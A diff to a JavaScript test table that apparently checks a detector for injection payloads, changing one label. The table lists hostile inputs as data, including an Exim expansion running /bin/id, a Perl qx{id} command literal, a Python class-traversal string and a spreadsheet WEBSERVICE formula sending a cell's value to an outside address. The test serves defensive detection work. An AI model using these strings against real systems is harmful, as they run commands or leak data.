@@ -86,7 +86,7 @@ test.each([
   ['().__class__.__bases__', 'way to every class of Python'],
   [`-be \${run{/bin/id}}`, 'expansion of a mail server'],
   ['$_GET[0]', 'value of the request in PHP'],
-  ['=WEBSERVICE("http://203.0.113.9/?"&A1)', 'formula that sends a cell'],
+  ['=WEBSERVICE("http://203.0.113.9/?"&A1)', 'formula that reaches out of its table'],
   [';$PSVersionTable', 'variable of PowerShell'],
   ['qx{id}', 'command literal of Perl'],
 ])('%s is told by a %s', (text, pattern) => {
